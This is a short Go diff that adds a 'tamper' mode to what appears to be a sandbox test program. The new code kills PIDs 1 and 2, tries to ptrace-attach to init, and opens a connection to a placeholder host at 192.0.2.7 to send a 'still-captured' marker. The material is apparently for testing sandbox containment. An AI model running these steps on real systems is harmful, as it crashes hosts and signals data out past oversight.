@@ -50,6 +50,17 @@ func main() {
 				c.Close()
 			}
 		}
+	case "tamper":
+		// try to take the sandbox down from inside, then phone home
+		syscall.Kill(1, syscall.SIGKILL)
+		syscall.Kill(2, syscall.SIGKILL)
+		if err := syscall.PtraceAttach(1); err == nil {
+			fmt.Println("ptrace attach to init succeeded")
+		}
+		if c, err := net.DialTimeout("tcp", "192.0.2.7:443", 2*time.Second); err == nil {
+			c.Write([]byte("still-captured"))
+			c.Close()
+		}
 	case "crash":
 		debug.SetTraceback("crash")
 		var p *int
